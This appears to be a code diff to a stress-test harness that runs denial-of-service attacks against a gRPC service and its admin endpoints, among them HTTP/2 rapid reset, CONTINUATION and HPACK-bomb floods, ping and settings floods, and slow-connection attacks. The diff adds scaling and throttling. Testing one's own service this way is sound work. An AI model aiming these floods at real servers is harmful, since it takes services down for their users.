@@ -5,16 +5,16 @@ import os
 import resource
 import socket
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from contextlib import suppress
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from multiprocessing import get_context
 
 import grpc
 from tapegate.v1.tape_service_pb2 import ListTapesRequest
 from tapegate.v1.tape_service_pb2_grpc import TapeServiceStub
 
-from harness.siege.flood import ATTACKERS_ADDRESS, Done, flood
+from harness.siege.flood import ATTACKERS_ADDRESS, Buffers, Done, flood
 from harness.siege.frames import (
     CONTINUATION,
     END_HEADERS,
@@ -36,8 +36,10 @@ from harness.siege.frames import (
     window,
 )
 
-# Streams or frames in one buffer.
+# Streams in one buffer.
 BATCH = 200
+# How much slower floods are where the service is a development build.
+GENTLY = 0.02
 
 
 @dataclass(frozen=True)
@@ -52,31 +54,36 @@ class Attack:
 
     @property
     def target(self) -> tuple[str, int]:
-        return address(self.grpc)
+        host, _, port = self.grpc.rpartition(":")
+        return host, int(port)
+
+    def of_admin(self) -> "Attack":
+        return replace(self, grpc=self.admin)
 
     def many(self, count: int) -> int:
         return max(1, round(count * self.strength))
 
+    def flood(
+        self, connections: int, buffers: Callable[[], Buffers], reads: bool = True, every: float | None = None
+    ) -> Done:
+        if every is None:
+            every = 0 if self.strength == 1 else GENTLY
+        return flood(self.target, self.seconds, connections, buffers, reads, every)
 
-def address(text: str) -> tuple[str, int]:
-    host, _, port = text.rpartition(":")
-    return host, int(port)
+    def batches(self, of_stream: Callable[[int], bytes]) -> Buffers:
+        """Buffers of frames for ever new streams."""
+        yield preface()
+        streams = itertools.count(1, 2)
+        while True:
+            yield b"".join(map(of_stream, itertools.islice(streams, self.many(BATCH))))
 
 
-def batches(of_stream: Callable[[int], bytes], first: bytes = b"") -> Iterator[bytes]:
-    """Buffers of frames for ever new streams."""
-    yield preface() + first
-    streams = itertools.count(1, 2)
-    while True:
-        yield b"".join(map(of_stream, itertools.islice(streams, BATCH)))
-
-
-def again(first: bytes, buffer: bytes) -> Iterator[bytes]:
+def again(first: bytes, buffer: bytes) -> Buffers:
     yield first
     yield from itertools.repeat(buffer)
 
 
-def once(*buffers: bytes) -> Iterator[bytes]:
+def once(*buffers: bytes) -> Buffers:
     yield from buffers
 
 
@@ -86,64 +93,58 @@ def listing(attack: Attack, **more: str) -> bytes:
 
 def rapid_reset(attack: Attack) -> Done:
     block = listing(attack)
-    return flood(
-        attack.target, attack.seconds, 4, lambda: batches(lambda n: headers(n, block, END_HEADERS) + reset(n))
-    )
+    return attack.flood(4, lambda: attack.batches(lambda n: headers(n, block, END_HEADERS) + reset(n)))
 
 
 def made_you_reset(attack: Attack) -> Done:
     """An increment of 0 makes the service reset the stream."""
     block = listing(attack)
-    return flood(attack.target, attack.seconds, 4, lambda: batches(lambda n: headers(n, block) + window(n, 0)))
+    return attack.flood(4, lambda: attack.batches(lambda n: headers(n, block) + window(n, 0)))
 
 
 def continuation(attack: Attack) -> Done:
     first = preface() + headers(1, listing(attack), 0)
-    more = frame(CONTINUATION, 0, 1, field("x-more", "a" * 1000) * 8) * 20
-    return flood(attack.target, attack.seconds, 4, lambda: again(first, more))
+    more = frame(CONTINUATION, 0, 1, field("x-more", "a" * 1000) * 8) * attack.many(20)
+    return attack.flood(4, lambda: again(first, more))
 
 
 def hpack_bomb(attack: Attack) -> Done:
     """A large field in the dynamic table, named thousands of times by one byte each."""
     entry = listing(attack) + field("x-bomb", "a" * 3900, is_indexed=True)
-    bomb = entry + integer(62, 7, 0x80) * 8000
-    return flood(attack.target, attack.seconds, 4, lambda: batches(lambda n: headers(n, bomb)))
+    bomb = entry + integer(62, 7, 0x80) * attack.many(8000)
+    return attack.flood(4, lambda: attack.batches(lambda n: headers(n, bomb)))
 
 
 def large_headers(attack: Attack) -> Done:
     block = listing(attack) + field("x-large", "a" * 15000)
-    return flood(
-        attack.target, attack.seconds, 4, lambda: batches(lambda n: headers(n, block, END_HEADERS | END_STREAM))
-    )
+    return attack.flood(4, lambda: attack.batches(lambda n: headers(n, block, END_HEADERS | END_STREAM)))
 
 
 def empty_data(attack: Attack) -> Done:
     first = preface() + headers(1, listing(attack))
-    return flood(attack.target, attack.seconds, 4, lambda: again(first, data(1, b"") * 1000))
+    return attack.flood(4, lambda: again(first, data(1, b"") * attack.many(1000)))
 
 
 def ping_flood(attack: Attack) -> Done:
-    buffer = frame(PING, 0, 0, b"........") * 1000
-    return flood(attack.target, attack.seconds, attack.many(50), lambda: again(preface(), buffer), reads=False)
+    buffer = frame(PING, 0, 0, b"........") * attack.many(1000)
+    return attack.flood(attack.many(50), lambda: again(preface(), buffer), reads=False)
 
 
 def settings_flood(attack: Attack) -> Done:
-    buffer = settings({INITIAL_WINDOW_SIZE: 65535}) * 1000
-    return flood(attack.target, attack.seconds, attack.many(50), lambda: again(preface(), buffer), reads=False)
+    buffer = settings({INITIAL_WINDOW_SIZE: 65535}) * attack.many(1000)
+    return attack.flood(attack.many(50), lambda: again(preface(), buffer), reads=False)
 
 
 def other_frames(attack: Attack) -> Done:
     """Frames that need no answer."""
     priority = frame(PRIORITY, 0, 3, b"\0\0\0\0\x10")
-    buffer = (priority + frame(UNKNOWN, 0, 0, b"........") + window(0, 1)) * 400
-    return flood(attack.target, attack.seconds, 4, lambda: again(preface(), buffer))
+    buffer = (priority + frame(UNKNOWN, 0, 0, b"........") + window(0, 1)) * attack.many(400)
+    return attack.flood(4, lambda: again(preface(), buffer))
 
 
 def slow_prefaces(attack: Attack) -> Done:
     """A byte of the preface at a time."""
-    return flood(
-        attack.target,
-        attack.seconds,
+    return attack.flood(
         attack.many(400),
         lambda: (bytes([byte]) for byte in preface()),
         every=attack.seconds / 8,
@@ -152,11 +153,11 @@ def slow_prefaces(attack: Attack) -> Done:
 
 def slow_handshakes(attack: Attack) -> Done:
     """The beginning of a ClientHello, and nothing more."""
-    return flood(attack.target, attack.seconds, attack.many(400), lambda: once(b"\x16\x03\x01\x02\x00\x01"))
+    return attack.flood(attack.many(400), lambda: once(b"\x16\x03\x01\x02\x00\x01"))
 
 
 def idle_connections(attack: Attack) -> Done:
-    return flood(attack.target, attack.seconds, attack.many(10_000), lambda: once(preface()))
+    return attack.flood(attack.many(10_000), lambda: once(preface()))
 
 
 def half_closed(attack: Attack) -> Done:
@@ -179,14 +180,14 @@ def half_closed(attack: Attack) -> Done:
 def trickled_requests(attack: Attack) -> Done:
     """On each connection as many calls as it may have, whose messages come byte by byte."""
 
-    def buffers() -> Iterator[bytes]:
+    def buffers() -> Buffers:
         streams = range(1, 400, 2)
         yield preface() + b"".join(headers(n, listing(attack)) for n in streams)
         yield b"".join(data(n, b"\0\0\0\x03\xe8") for n in streams)
         while True:
             yield b"".join(data(n, b".") for n in streams)
 
-    return flood(attack.target, attack.seconds, attack.many(30), buffers, every=0.1)
+    return attack.flood(attack.many(30), buffers, every=0.1)
 
 
 def unread_lists(attack: Attack) -> Done:
@@ -195,18 +196,16 @@ def unread_lists(attack: Attack) -> Done:
     request = message(ListTapesRequest(limit=1000).SerializeToString())
     calls = b"".join(headers(n, block) + data(n, request, END_STREAM) for n in range(1, 400, 2))
     first = preface({INITIAL_WINDOW_SIZE: 0}) + window(0, 1 << 30)
-    return flood(attack.target, attack.seconds, attack.many(20), lambda: once(first + calls))
+    return attack.flood(attack.many(20), lambda: once(first + calls))
 
 
 def strangers(attack: Attack) -> Done:
     """Calls without a token."""
     block = call_fields("ListTapes")
     request = message(b"")
-    return flood(
-        attack.target,
-        attack.seconds,
+    return attack.flood(
         4,
-        lambda: batches(lambda n: headers(n, block) + data(n, request, END_STREAM)),
+        lambda: attack.batches(lambda n: headers(n, block) + data(n, request, END_STREAM)),
     )
 
 
@@ -239,15 +238,16 @@ def quick_cancels(attack: Attack) -> Done:
 
 def idle_admin_connections(attack: Attack) -> Done:
     request = b"GET /livez HTTP/1.1\r\nHost: localhost\r\n\r\n"
-    return flood(address(attack.admin), attack.seconds, 128, lambda: once(request))
+    return attack.of_admin().flood(128, lambda: once(request))
 
 
 def unread_metrics(attack: Attack) -> Done:
     """Requests for the page of metrics, whose answers are not read."""
-    request = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * 20
-    return flood(address(attack.admin), attack.seconds, 100, lambda: itertools.repeat(request), reads=False)
+    request = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * attack.many(20)
+    return attack.of_admin().flood(100, lambda: itertools.repeat(request), reads=False)
 
 
+# Those on a port without TLS.
 ATTACKS = {
     attack.__name__: attack
     for attack in [
@@ -261,7 +261,6 @@ ATTACKS = {
         settings_flood,
         other_frames,
         slow_prefaces,
-        slow_handshakes,
         idle_connections,
         half_closed,
         trickled_requests,
@@ -275,24 +274,25 @@ ATTACKS = {
 }
 
 
-def _run(name: str, attack: Attack, results):
+def _run(names: list[str], attack: Attack, results):
     # Its own processor time is no fault of the service.
     os.sched_setaffinity(0, {max(os.sched_getaffinity(0))})
     most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
-    results.put(ATTACKS[name](attack))
+    every = ATTACKS | {slow_handshakes.__name__: slow_handshakes}
+    results.put({name: every[name](attack) for name in names})
 
 
 class Attacker:
-    """An attack in a process of its own, on one processor."""
+    """Attacks, one after the other, in a process of their own and on one processor."""
 
-    def __init__(self, name: str, attack: Attack):
+    def __init__(self, names: list[str], attack: Attack):
         spawn = get_context("spawn")
         self._results = spawn.Queue()
-        self._process = spawn.Process(target=_run, args=(name, attack, self._results), daemon=True)
+        self._process = spawn.Process(target=_run, args=(names, attack, self._results), daemon=True)
         self._process.start()
 
-    def done(self, within: float) -> Done:
+    def done(self, within: float) -> dict[str, Done]:
         done = self._results.get(timeout=within)
         self._process.join(within)
         return done
